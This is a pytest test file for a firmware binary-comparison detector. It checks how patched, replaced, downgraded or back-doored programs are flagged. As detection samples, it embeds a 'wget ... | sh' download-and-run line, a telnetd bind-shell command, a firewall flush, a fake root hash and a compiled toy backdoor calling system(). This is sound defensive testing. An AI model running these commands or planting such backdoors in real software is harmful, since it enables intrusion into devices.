"""What is said of changed, added and removed programs; with the genuine bytes at hand, and with their portraits alone."""

import os
import random
import shutil
import subprocess
import time
from pathlib import Path
from struct import pack

import pytest

from trueware.explaining.detectors.programs import Programs
from trueware.model.finding import Finding, Severity

from .cases import File, case, findings, rules
from .elf_files import ARM, MIPS, X86_64, Made

PATH = "usr/sbin/httpd"
GCC = shutil.which("gcc")


def mips(count: int, seed: int = 1) -> bytes:
    """Functions that load constants, call, and return."""
    made, dice = b"", random.Random(seed)
    for number in range(count):
        made += pack(">I", 0x27BDFFE0)
        for _ in range(12 + number % 5):
            made += pack(">2I", 0x24040000 | dice.randrange(1 << 15), 0x0C100000 | dice.randrange(1 << 16))
        made += pack(">3I", 0x03E00008, 0x27BD0020, 0)
    return made


CODE = mips(40)
GENUINE = Made(
    code=CODE,
    data=b"Welcome\0http://update.maker.example/fw\0" + bytes(64),
    imports=("printf", "socket", "strcmp", "read"),
)


def found(genuine: bytes | Made, suspect: bytes | Made, *, portraits: bool = False) -> list[Finding]:
    both = [each.image if isinstance(each, Made) else each for each in (genuine, suspect)]
    return findings(Programs, case({PATH: both[0]}, {PATH: both[1]}, at_hand=not portraits, portraits=portraits))


def both_ways(genuine: bytes | Made, suspect: bytes | Made) -> set[str]:
    """Return the rules found, which must be the same whether bytes or portraits are at hand."""
    with_bytes, with_portraits = (
        {each.rule for each in found(genuine, suspect, portraits=way)} for way in (False, True)
    )
    assert with_bytes == with_portraits
    return with_bytes


def test_a_patched_instruction_is_found_at_its_place() -> None:
    at = CODE.index(pack(">I", 0x27BDFFE0), 400) + 4
    code = CODE[:at] + pack(">I", 0x24040001) + CODE[at + 4 :]
    assert both_ways(GENUINE, GENUINE.with_(code=code)) == {"program-patched"}
    (finding,) = found(GENUINE, GENUINE.with_(code=code))
    assert finding.severity is Severity.HIGH
    assert finding.offset is not None
    assert GENUINE.with_(code=code).image[finding.offset] != GENUINE.image[finding.offset]
    assert finding.evidence[0].found != finding.evidence[0].expected


def test_a_redirected_call_is_a_patch_although_calls_are_not_compared() -> None:
    at = CODE.index(b"\x0c\x10")
    assert both_ways(GENUINE, GENUINE.with_(code=CODE[: at + 3] + b"\x77" + CODE[at + 4 :])) == {"program-patched"}


def test_a_patched_text_weighs_less_and_is_shown() -> None:
    suspect = GENUINE.with_(data=GENUINE.data.replace(b"Welcome", b"Willkom"))
    assert both_ways(GENUINE, suspect) == {"program-data-changed"}
    (finding,) = found(GENUINE, suspect)
    assert finding.severity is Severity.LOW
    assert [(each.expected, each.found) for each in finding.evidence] == [("Welcome", "Willkom")]


@pytest.mark.parametrize(
    "suspect",
    [
        GENUINE.with_(sections=True, names=(("main", 0, 64),)),
        GENUINE.with_(imports=("read", "strcmp", "socket", "printf")),
    ],
    ids=["not stripped", "other order of names"],
)
def test_what_does_not_run_says_little(suspect: Made) -> None:
    assert both_ways(GENUINE, suspect) == {"program-restamped"}
    assert both_ways(suspect, GENUINE) == {"program-restamped"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"built Nov  4 2020 10:11:12", b"built Jan 17 2021 23:59:01"),
        (b"v1 (2020-11-04)\0", b"v1 (2021-01-17)\0"),
        (b"Wed Nov 04 10:11:12 CST 2020", b"Sun Jan 17 01:02:03 CST 2021"),
    ],
)
def test_another_time_stamp_is_no_change(old: bytes, new: bytes) -> None:
    assert both_ways(GENUINE.with_(data=old), GENUINE.with_(data=new)) == {"program-restamped"}


def test_another_build_id_is_no_change() -> None:
    assert both_ways(GENUINE.with_(build_id=b"a" * 20), GENUINE.with_(build_id=b"b" * 20)) == {"program-restamped"}


def test_an_inserted_function_leaves_the_others_equal() -> None:
    suspect = GENUINE.with_(code=CODE[:800] + mips(1, seed=9) + CODE[800:])
    assert "program-code-changed" in both_ways(GENUINE, suspect)
    (finding,) = found(GENUINE, suspect)
    assert int(finding.detail.split(" of ")[0]) <= 3, finding.detail


def test_changed_functions_are_named() -> None:
    starts = [at for at in range(0, len(CODE), 4) if CODE[at : at + 4] == pack(">I", 0x27BDFFE0)]
    names = tuple(
        (f"f{n}", at, end - at) for n, (at, end) in enumerate(zip(starts, [*starts[1:], len(CODE)], strict=True))
    )
    code = CODE + mips(1, seed=5)
    place = starts[7] + 4
    suspect = GENUINE.with_(
        sections=True,
        names=(*names, ("backdoor", len(CODE), len(code) - len(CODE))),
        code=code[:place] + pack(">I", 0x24040001) + code[place + 4 :],
    )
    (finding,) = found(GENUINE.with_(sections=True, names=names), suspect)
    assert finding.rule == "program-code-changed"
    assert finding.detail.startswith("1 function changed (f7), 1 function added (backdoor)")
    (kept,) = found(GENUINE.with_(sections=True, names=names), suspect, portraits=True)
    assert kept.detail == finding.detail


def test_another_program_in_its_place() -> None:
    other = Made(
        code=mips(50, seed=7), imports=("socket", "bind", "fork", "execve", "dup2", "accept"), needed=("libutil.so.0",)
    )
    assert "program-replaced" in both_ways(GENUINE, other)


def test_the_same_program_of_another_compiler() -> None:
    assert both_ways(GENUINE, GENUINE.with_(code=mips(44, seed=7))) == {"program-rebuilt"}


def test_a_program_of_another_machine_in_its_place() -> None:
    assert "program-replaced" in both_ways(GENUINE, GENUINE.with_(machine=ARM, order="<"))


def test_a_script_in_the_place_of_a_program() -> None:
    assert [each.rule for each in found(GENUINE, b'#!/bin/sh\nexec /usr/sbin/real "$@"\n')] == ["program-replaced"]
    assert [each.rule for each in found(b"#!/bin/sh\n", GENUINE)] == ["program-replaced"]


def test_no_program_no_word() -> None:
    assert found(b"text", b"other text") == []
    assert rules(Programs, case({PATH: GENUINE.image}, {PATH: File(GENUINE.image, mode=0o755)})) == []
    assert rules(Programs, case({PATH: GENUINE.image}, {"usr/sbin/moved": GENUINE.image})) == ["program-moved"]


def test_without_anything_genuine_nothing_is_said() -> None:
    suspect = GENUINE.with_(imports=("listen", "accept", "system"))
    assert findings(Programs, case({PATH: GENUINE.image}, {PATH: suspect.image}, at_hand=False)) == []


def linked(**changes: object) -> set[str]:
    return both_ways(GENUINE, GENUINE.with_(**changes)) - {
        "program-data-changed",
        "program-patched",
        "program-restamped",
    }


def test_an_added_library() -> None:
    assert linked(needed=("libc.so.0", "libhook.so")) == {"program-library-added"}
    assert linked(needed=("libc.so.0", "libgcc_s.so.1")) == set()


def test_a_search_path() -> None:
    assert linked(rpath="/usr/lib/httpd") == {"program-search-path-changed"}
    for path in ("/tmp/x", ".", "/lib:/var/x"):
        assert linked(rpath=path) == {"program-search-path-writable"}
    assert "program-search-path-changed" not in both_ways(GENUINE.with_(rpath="/usr/lib"), GENUINE)


def test_another_loader() -> None:
    assert linked(interpreter="/lib/ld-evil-c.so.0") == {"program-interpreter-changed"}


def test_an_entry_that_was_redirected() -> None:
    assert "program-entry-redirected" in linked(entry=len(CODE) - 140)
    moved = GENUINE.with_(code=mips(2, seed=3) + CODE, entry=288)
    assert "program-entry-redirected" not in both_ways(GENUINE, moved)


def test_a_segment_and_bytes_that_were_added() -> None:
    assert linked(segments=((1, 5),)) >= {"program-segment-added"}
    assert linked(segments=((1, 7),)) >= {"program-segment-added"}
    assert linked(segments=((0x6474E551, 6),)) == set()
    assert linked(appended=b"#!/bin/sh\nreboot\n" * 2) == {"program-bytes-appended"}
    assert linked(appended=bytes(64)) == set()


def test_lost_protections() -> None:
    hard = GENUINE.with_(hardened=True, imports=("printf", "__stack_chk_fail"))
    assert "program-hardening-lost" not in both_ways(GENUINE, hard)
    (finding,) = (each for each in found(hard, GENUINE) if each.rule == "program-hardening-lost")
    assert "stack protector" in finding.detail
    assert "no executable stack" in finding.detail


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        (("listen", "accept", "system"), {"program-serves-commands"}),
        (("listen", "accept"), {"program-listens"}),
        (("execve",), {"program-executes"}),
        (("connect",), {"program-connects"}),
        (("pcap_open_live",), {"program-captures-traffic"}),
        (("ptrace",), {"program-traces"}),
        (("dlopen",), {"program-loads-code"}),
        (("strdup", "malloc", "fopen"), set()),
    ],
)
def test_abilities_gained(more: tuple[str, ...], expected: set[str]) -> None:
    assert linked(imports=(*GENUINE.imports, *more)) == expected
    finding = next(
        (each for each in found(GENUINE, GENUINE.with_(imports=(*GENUINE.imports, *more))) if each.rule in expected),
        None,
    )
    assert finding is None or set(finding.touches) == {f"call:{name}" for name in more}


def test_an_ability_that_was_there_is_none_gained() -> None:
    server = GENUINE.with_(imports=("listen", "accept", "system"))
    assert both_ways(server, server.with_(imports=("listen", "accept4", "popen", "execve", "system"))) <= {
        "program-data-changed",
        "program-restamped",
        "program-patched",
    }


def spoken(data: bytes) -> set[str]:
    return linked(data=GENUINE.data + data + b"\0")


def test_texts_that_came() -> None:
    assert spoken(b"http://198.51.100.7:8080/c") == {"program-endpoint-added"}
    assert spoken(b"collector.evil.example.com") == {"program-endpoint-added"}
    assert spoken(b"wget -q http://198.51.100.7/x -O- | sh") == {"program-downloads-code"}
    assert spoken(b"telnetd -p 4444 -l /bin/sh &") == {"program-opens-shell"}
    assert spoken(b"iptables -F INPUT") == {"program-command-added"}
    assert spoken(b"-----BEGIN PUBLIC KEY-----\nMIIB") == {"program-key-added"}
    assert spoken(b"root:$1$abcdefgh$0123456789012345678901:0:0") == {"program-password-added"}


@pytest.mark.parametrize(
    "text",
    [
        b"Usage: %s [-h] file...", b"see http://www.gnu.org/licenses/", b"error: cannot open %s: %s", b"libfoo.so.1.2.3.4",
        b"version 1.2.3.4", b"192.168.1.1", b"reboot required", b"/etc/config/network", b"cannot kill process",
    ],
)  # fmt: skip
def test_texts_that_say_nothing(text: bytes) -> None:
    assert spoken(text) == set()


def test_an_endpoint_in_the_place_of_another() -> None:
    suspect = GENUINE.with_(data=GENUINE.data.replace(b"update.maker.example", b"update.enemy.example"))
    assert both_ways(GENUINE, suspect) == {"program-data-changed", "program-endpoint-replaced"}
    (finding,) = (each for each in found(GENUINE, suspect) if each.rule == "program-endpoint-replaced")
    assert (finding.evidence[0].expected, finding.evidence[0].found) == (
        "http://update.maker.example/fw",
        "http://update.enemy.example/fw",
    )
    assert "host:update.enemy.example" in finding.touches


def test_a_new_path_on_an_old_server_is_no_new_endpoint() -> None:
    suspect = GENUINE.with_(data=GENUINE.data.replace(b"/fw", b"/v2"))
    assert both_ways(GENUINE, suspect) == {"program-data-changed"}


@pytest.mark.parametrize(
    ("old", "new", "older"),
    [
        (b"OpenSSL 3.0.15 3 Sep 2024", b"OpenSSL 3.0.11 19 Sep 2023", True),
        (b"BusyBox v1.31.1 (2020)", b"BusyBox v1.19.4 (2012)", True),
        (b"dnsmasq-2.90", b"dnsmasq-2.9", True),
        (b"OpenSSL 1.0.2u", b"OpenSSL 1.0.2k", True),
        (b"OpenSSL 3.0.11", b"OpenSSL 3.0.15", False),
        (b"agent 1.2\0engine/4.1", b"agent 1.1\0engine/4.2", False),
        (b"HTTP/1.1", b"HTTP/1.0", False),
        (b"version 2.1", b"version 2.0", False),
        (b"agent 1.2", b"other 1.1", False),
        (b"agent 1.2\0agent 1.4", b"agent 1.1", False),
        (b"at 10.0.0.2", b"at 10.0.0.1", False),
    ],
)
def test_an_older_program_was_put_back(old: bytes, new: bytes, older: bool) -> None:  # noqa: FBT001
    told = both_ways(GENUINE.with_(data=old + b"\0"), GENUINE.with_(data=new + b"\0"))
    assert ("program-downgraded" in told) is older


def added(made: Made | bytes, **beside: bytes) -> list[Finding]:
    own = {"bin/busybox": GENUINE.image, "etc/passwd": b"root:x:0:0::/:/bin/sh\n"}
    return findings(
        Programs, case(own, {**own, "usr/bin/new": made.image if isinstance(made, Made) else made, **beside})
    )


def packed(size: int = 1 << 15) -> Made:
    return Made(code=random.Random(3).randbytes(size), imports=(), needed=(), interpreter="", data=b"")


@pytest.mark.parametrize(
    ("made", "expected", "severity"),
    [
        (Made(imports=("printf",)), "program-added", Severity.MEDIUM),
        (Made(imports=("listen", "accept", "execve")), "program-server-added", Severity.HIGH),
        (Made(imports=("listen", "accept")), "program-server-added", Severity.MEDIUM),
        (Made(imports=("bind", "recvfrom")), "program-server-added", Severity.MEDIUM),
        (Made(kind=3, interpreter="", imports=("listen", "accept")), "program-added", Severity.LOW),
        (Made(imports=("pcap_open_live", "pcap_loop")), "program-capturer-added", Severity.HIGH),
        (Made(machine=X86_64, wide=2, order="<"), "program-foreign", Severity.MEDIUM),
        (packed(), "program-packed", Severity.HIGH),
        (packed().with_(code=CODE * 5), "program-added", Severity.MEDIUM),
        (Made(machine=MIPS), "program-added", Severity.MEDIUM),
    ],
)
def test_an_added_program_is_described(made: Made, expected: str, severity: Severity) -> None:
    (finding,) = added(made)
    assert (finding.rule, finding.severity) == (expected, severity)


def test_what_was_added_and_is_no_program_is_another_detectors() -> None:
    assert added(b"#!/bin/sh\n") == []
    assert added(Made(kind=1)) == []


def test_a_removed_program() -> None:
    assert rules(Programs, case({PATH: GENUINE.image, "a": b""}, {"a": b""})) == ["program-removed"]
    assert rules(Programs, case({PATH: GENUINE.image}, {}, at_hand=False, portraits=True)) == ["program-removed"]
    assert rules(Programs, case({PATH: b"text", "a": b""}, {"a": b""})) == []


def link(target: str) -> File:
    return File(link=target, mode=0o777)


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("busybox", "/tmp/x", ("program-link-redirected", Severity.HIGH)),
        ("busybox", "dropbear", ("program-link-redirected", Severity.MEDIUM)),
        ("libz.so.1.2", "libz.so.1.3", ("program-link-redirected", Severity.LOW)),
        (None, "busybox", ("program-link-added", Severity.LOW)),
        (None, "../var/x", ("program-link-added", Severity.HIGH)),
        ("busybox", None, ("program-link-removed", Severity.LOW)),
    ],
)
def test_links(old: str | None, new: str | None, expected: tuple[str, Severity]) -> None:
    sides: list[dict[str, bytes | File]] = [
        {"bin/busybox": b"", "bin/dropbear": b"", **({} if target is None else {"bin/login": link(target)})}
        for target in (old, new)
    ]
    assert [(each.rule, each.severity) for each in findings(Programs, case(*sides))] == [expected]


def test_links_elsewhere_are_none_of_programs() -> None:
    for path in ("etc/x", "lib/modules/5.4/source", "usr/lib/firmware/x"):
        assert findings(Programs, case({path: link("a")}, {path: link("/tmp/b")})) == []


# ── real programs ──

SOURCE = """
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
static int table[64];
__attribute__((noinline)) int hash(const char *s) { int h = 5381; while (*s) h = h * 33 + *s++; return h; }
__attribute__((noinline)) int check(const char *user, const char *word) { return hash(user) == 7 && strcmp(word, "%s") == 0; }
__attribute__((noinline)) void fill(int n) { for (int i = 0; i < 64; i++) table[i] = i * n + hash("x"); }
__attribute__((noinline)) void show(void) { for (int i = 0; i < 64; i++) printf("%%d %%d\\n", i, table[i]); }
%s
int main(int argc, char **argv) { fill(argc); if (argc > 2 && check(argv[1], argv[2])) puts("welcome"); show(); %s return 0; }
"""
PLAIN = SOURCE % ("open sesame", "", "")


def built(folder: Path, source: str, *options: str, strip: bool = False) -> bytes:
    """Return what gcc makes of C source."""
    assert GCC is not None
    (folder / "x.c").write_text(source)
    command = [GCC, "-O1", *options, "x.c", "-o", "x"]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, env={**os.environ, "LC_ALL": "C"})
    if strip:
        subprocess.run(["strip", "x"], cwd=folder, check=True)
    return (folder / "x").read_bytes()


@pytest.mark.skipif(GCC is None, reason="no gcc")
class TestBuilt:
    @pytest.mark.parametrize("strip", [False, True])
    def test_a_back_door_in_the_source(self, tmp_path: Path, strip: bool) -> None:  # noqa: FBT001
        more = "void __attribute__((noinline)) shell(char *c) { system(c); }"
        genuine = built(tmp_path, PLAIN, strip=strip)
        suspect = built(tmp_path, SOURCE % ("open sesame", more, "if (argc == 4) shell(argv[3]);"), strip=strip)
        assert both_ways(genuine, suspect) >= {"program-code-changed", "program-executes"}
        if not strip:
            (finding,) = (each for each in found(genuine, suspect) if each.rule == "program-code-changed")
            assert "1 function changed (main)" in finding.detail
            assert "1 function added (shell)" in finding.detail

    def test_stripped(self, tmp_path: Path) -> None:
        assert both_ways(built(tmp_path, PLAIN), built(tmp_path, PLAIN, strip=True)) == {"program-restamped"}

    def test_another_build_id(self, tmp_path: Path) -> None:
        one, other = (built(tmp_path, PLAIN, f"-Wl,--build-id=0x{digit * 40}") for digit in "12")
        assert one != other
        assert both_ways(one, other) == {"program-restamped"}

    def test_another_day(self, tmp_path: Path) -> None:
        stamped = SOURCE % ("open sesame", 'const char *when = __DATE__ " " __TIME__;', "puts(when);")
        one, other = (
            built(tmp_path, stamped, "-Wno-builtin-macro-redefined", f'-D__DATE__="{day}"', f'-D__TIME__="{at}"')
            for day, at in (("Nov  4 2020", "10:11:12"), ("Jan 17 2021", "23:00:01"))
        )
        assert one != other
        assert both_ways(one, other) == {"program-restamped"}

    def test_another_password_in_the_source(self, tmp_path: Path) -> None:
        assert both_ways(built(tmp_path, PLAIN), built(tmp_path, SOURCE % ("open barley", "", ""))) == {
            "program-data-changed"
        }

    def test_protections_left_off(self, tmp_path: Path) -> None:
        hard = built(tmp_path, PLAIN, "-pie", "-fPIE", "-Wl,-z,relro,-z,now")
        soft = built(tmp_path, PLAIN, "-no-pie", "-fno-pie", "-Wl,-z,norelro", "-z", "execstack")
        (finding,) = (each for each in found(hard, soft) if each.rule == "program-hardening-lost")
        assert finding.detail == (
            "without: lies at random addresses (PIE), read-only relocations (RELRO), all calls bound at start (BIND_NOW), "
            "no executable stack"
        )

    def test_another_optimisation_is_a_build_not_a_patch(self, tmp_path: Path) -> None:
        assert both_ways(built(tmp_path, PLAIN), built(tmp_path, PLAIN, "-O3", "-march=x86-64-v2")) <= {
            "program-code-changed",
            "program-rebuilt",
            "program-hardening-lost",
        }


def test_texts_made_to_cost_much_do_not() -> None:
    text = b"wget " * 200 + b"\0"
    suspect = GENUINE.with_(data=GENUINE.data + text * 500)
    start = time.perf_counter()
    found(GENUINE, suspect)
    assert time.perf_counter() - start < 20
